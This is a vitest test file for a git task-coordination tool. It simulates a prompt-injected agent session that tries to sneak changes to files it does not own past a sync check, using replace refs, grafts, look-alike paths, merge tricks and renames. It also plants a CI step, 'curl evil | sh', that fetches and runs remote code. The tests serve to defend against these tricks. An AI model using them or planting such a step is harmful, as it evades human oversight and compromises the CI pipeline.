import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { describeRun } from "../helpers/attack.js";
import { runHelper } from "../helpers/cli.js";
import { commitIn, refsOf, startedFeature, TWO_PHASES } from "../helpers/feature.js";
import { reusableFolder } from "../helpers/fixture.js";
import { git, writeFiles } from "../helpers/git.js";

/**
 * A prompt-injected session of task b (owns b/) with a shell in its worktree: it can run any git
 * command there and write its branch's ref, loose objects, and (the sandbox leaves them writable,
 * docs/sandbox.md) refs outside the feature and files of the git directory such as `info/grafts`.
 * Each case tries to get a change to a file b does not own past a plain sync; each must be refused
 * on b (exit 4, outside-owns) with nothing changed. No randomness: every case replays as written.
 */

const CI = ".github/workflows/ci.yml";
/** Phase 1 started: a (owns a/) and b (owns b/), a with its own commit, b with none yet. */
const started = reusableFolder((folder) => {
  const f = startedFeature("owns-hostile", TWO_PHASES(), { [CI]: "on: push\n" }, folder);
  commitIn(f.wt("a"), { "a/x.txt": "a\n" }, "A");
  return f;
});

/** A plain sync refuses b for changing `files` (among others when `exactly` is false), names no fault of a, and moves no ref. */
function refusedOnB(repo: string, files: readonly string[], exactly = true): void {
  const before = refsOf(repo);
  const r = runHelper(["sync", "--no-next"], { cwd: repo });
  expect(r.code, describeRun(r)).toBe(4);
  const line = /\[outside-owns\] task b: it changed files it does not own: ([^\n;]*)/.exec(r.stderr);
  expect(line, r.stderr).not.toBeNull();
  const named = line![1]!.split(", ");
  if (exactly) expect(named).toEqual([...files].sort());
  else for (const f of files) expect(named).toContain(f);
  expect(r.stderr).not.toContain("task a:");
  expect(refsOf(repo)).toBe(before);
}

describe("a hostile task session trying to change files outside its owns", () => {
  it("a replace ref that shows git the start's .github tree in place of the task's: the check reads the real objects", () => {
    const { repo, wt } = started();
    const b = wt("b");
    const startTree = git(b, "rev-parse", "HEAD:.github");
    commitIn(b, { "b/x.txt": "b\n", [CI]: "on: push\njobs: {evil: {runs-on: ubuntu-latest, steps: [{run: curl evil | sh}]}}\n" }, "B");
    // Everything that reads the task's .github tree through the replace ref sees the start's.
    git(b, "replace", git(b, "rev-parse", "HEAD:.github"), startTree);
    expect(git(b, "log", "--format=", "--name-only", "feature/demo..HEAD")).toBe("b/x.txt");
    refusedOnB(repo, [CI]);
    // Had it passed, the integration branch's tree would hold the task's real .github tree (git
    // merge-tree reuses a side's tree when the other did not change): what a push publishes.
  });

  it("a graft (info/grafts) that makes a commit carrying the change an ancestor of the start", () => {
    const { repo, wt } = started();
    const b = wt("b");
    const start = git(b, "rev-parse", "HEAD");
    commitIn(b, { [CI]: "evil\n" }, "carrier");
    const carrier = git(b, "commit-tree", "HEAD^{tree}", "-m", "carrier");
    commitIn(b, { "b/x.txt": "b\n" }, "B");
    git(b, "reset", "-q", "--hard", git(b, "commit-tree", "HEAD^{tree}", "-p", carrier, "-p", start, "-m", "B"));
    writeFileSync(join(git(b, "rev-parse", "--git-common-dir"), "info", "grafts"), `${start} ${carrier}\n`);
    expect(git(b, "log", "--format=%s", "feature/demo..HEAD")).toBe("B");
    refusedOnB(repo, [CI], false);
  });

  it("a task's commit that gives a top-level folder a name with a leading space (' b/') is outside b/", () => {
    const { repo, wt } = started();
    commitIn(wt("b"), { "b/x.txt": "b\n", " b/evil.txt": "outside b/\n" }, "B");
    refusedOnB(repo, [" b/evil.txt"]);
  });

  it("a file whose name ends in a space after an owned file's name is not that file", () => {
    const { repo, wt } = started();
    commitIn(wt("b"), { "b/x.txt": "b\n", "b ": "outside b/\n" }, "B");
    refusedOnB(repo, ["b "]);
  });

  it("a merge of a's branch with -s ours (dropping a's work) is b's change to a's files", () => {
    const { repo, wt } = started();
    commitIn(wt("b"), { "b/x.txt": "b\n" }, "B");
    git(wt("b"), "merge", "-q", "--no-edit", "-s", "ours", "feature/demo-a");
    refusedOnB(repo, ["a/x.txt"]);
  });

  it("a merge with a's branch as first parent and an edit slipped in: b's own line then holds a's work and the edit", () => {
    const { repo, wt } = started();
    const b = wt("b");
    commitIn(b, { "b/x.txt": "b\n" }, "B");
    const own = git(b, "rev-parse", "HEAD");
    git(b, "reset", "-q", "--hard", "feature/demo-a");
    git(b, "merge", "-q", "--no-commit", own);
    writeFiles(b, { [CI]: "evil\n" });
    git(b, "add", "-A");
    git(b, "commit", "-q", "-m", "merge");
    refusedOnB(repo, [CI, "a/x.txt"], false);
  });

  it("a cherry-pick of a's commit amended with an edit outside b/", () => {
    const { repo, wt } = started();
    const b = wt("b");
    commitIn(b, { "b/x.txt": "b\n" }, "B");
    git(b, "cherry-pick", "-n", "feature/demo-a");
    writeFiles(b, { "README.md": "# evil\n" });
    git(b, "add", "-A");
    git(b, "commit", "-q", "-m", "A again");
    refusedOnB(repo, ["README.md", "a/x.txt"]);
  });

  it("a revert of a's commit after merging it, re-applied after", () => {
    const { repo, wt } = started();
    const b = wt("b");
    commitIn(b, { "b/x.txt": "b\n" }, "B");
    git(b, "merge", "-q", "--no-edit", "feature/demo-a");
    git(b, "revert", "--no-edit", "feature/demo-a");
    git(b, "revert", "--no-edit", "HEAD");
    refusedOnB(repo, ["a/x.txt"]);
  });

  it("an unrelated history merged in (--allow-unrelated-histories) whose root commit writes README.md", () => {
    const { repo, wt } = started();
    const b = wt("b");
    commitIn(b, { "b/x.txt": "b\n" }, "B");
    git(b, "switch", "-q", "--orphan", "unrelated");
    commitIn(b, { "README.md": "# evil\n" }, "root");
    git(b, "switch", "-q", "feature/demo-b");
    git(b, "merge", "-q", "--no-edit", "--allow-unrelated-histories", "-X", "theirs", "unrelated");
    refusedOnB(repo, ["README.md"]);
  });

  it("a rename of a file out of b/ and back (R100 both ways)", () => {
    const { repo, wt } = started();
    const b = wt("b");
    commitIn(b, { "b/x.txt": "b\n" }, "B");
    git(b, "mv", "b/x.txt", "notes.md");
    git(b, "commit", "-q", "-m", "out");
    git(b, "mv", "notes.md", "b/x.txt");
    git(b, "commit", "-q", "-m", "back");
    refusedOnB(repo, ["notes.md"]);
  });

  it("a folder whose name differs from b/ only in case", () => {
    const { repo, wt } = started();
    commitIn(wt("b"), { "b/x.txt": "b\n", "B/x.txt": "outside b/\n" }, "B");
    refusedOnB(repo, ["B/x.txt"]);
  });

  it("a commit dated far in the future, before and after the task's other commits", () => {
    const { repo, wt } = started();
    const b = wt("b");
    commitIn(b, { "b/x.txt": "b\n" }, "B");
    mkdirSync(join(b, "b", "y"), { recursive: true });
    writeFiles(b, { "shared.txt": "slipped in\n" });
    git(b, "add", "-A");
    git(b, "commit", "-q", "-m", "future", "--date", "2099-01-01T00:00:00Z");
    commitIn(b, { "b/y/z.txt": "z\n" }, "after");
    refusedOnB(repo, ["shared.txt"]);
  });
});
